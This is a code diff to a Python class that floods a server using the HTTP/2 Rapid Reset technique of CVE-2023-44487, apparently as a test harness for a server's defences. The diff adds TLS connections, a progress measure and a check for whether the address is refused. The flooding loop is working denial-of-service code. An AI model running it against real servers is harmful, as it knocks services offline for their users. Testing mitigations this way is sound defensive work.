@@ -1,6 +1,7 @@
 """What CVE-2023-44487 describes: clients that open calls and reset them at once, without pause."""
 
 import socket
+import ssl
 import struct
 import threading
 import time
@@ -42,13 +43,17 @@ def _calls(first):
 
 
 class ResetFlood:
-    """Three connections, and new ones where they are closed, from an address of their own."""
+    """Three connections over TLS, and new ones where they are closed, from an address of their own.
+    `ca`: the path of the authority's certificate."""
 
     SOURCE = "127.0.0.2"
 
-    def __init__(self, address, seconds):
+    def __init__(self, address, seconds, ca):
         host, port = address.rsplit(":", 1)
-        self._address, self._end = (host, int(port)), time.monotonic() + seconds
+        self._tls = ssl.create_default_context(cafile=ca)
+        self._tls.set_alpn_protocols(["h2"])
+        self._address = (host, int(port))
+        self._begin, self._seconds = time.monotonic(), seconds
         # Calls that were sent, and connections that were refused or closed, per thread.
         self._sent, self._closed = [0] * 3, [0] * 3
         self._threads = [threading.Thread(target=self._attack, args=(i,)) for i in range(3)]
@@ -56,7 +61,19 @@ class ResetFlood:
             thread.start()
 
     def alive(self):
-        return time.monotonic() < self._end
+        return self.progress() < 1
+
+    def progress(self):
+        """How much of its time is over: 1 at its end, and more then."""
+        return (time.monotonic() - self._begin) / self._seconds
+
+    def is_refused(self):
+        """Whether its address gets no connection now."""
+        try:
+            self._connect().close()
+        except OSError:
+            return True
+        return False
 
     def join(self):
         """How many calls were sent, and how many connections were refused or closed."""
@@ -64,10 +81,21 @@ class ResetFlood:
             thread.join()
         return sum(self._sent), sum(self._closed)
 
+    def _connect(self):
+        connection = self._tls.wrap_socket(socket.socket(), server_hostname=self._address[0])
+        try:
+            connection.settimeout(1)
+            connection.bind((self.SOURCE, 0))
+            connection.connect(self._address)
+        except OSError:
+            connection.close()
+            raise
+        return connection
+
     def _attack(self, index):
         while self.alive():
             try:
-                with socket.create_connection(self._address, timeout=1, source_address=(self.SOURCE, 0)) as connection:
+                with self._connect() as connection:
                     connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0))
                     for stream in range(1, _LAST_STREAM, 200):
                         if not self.alive():
@@ -94,5 +122,5 @@ class ResetFlood:
             while connection.recv(1 << 16):
                 pass
             raise ConnectionError("closed")
-        except BlockingIOError:
+        except ssl.SSLWantReadError:
             connection.settimeout(1)
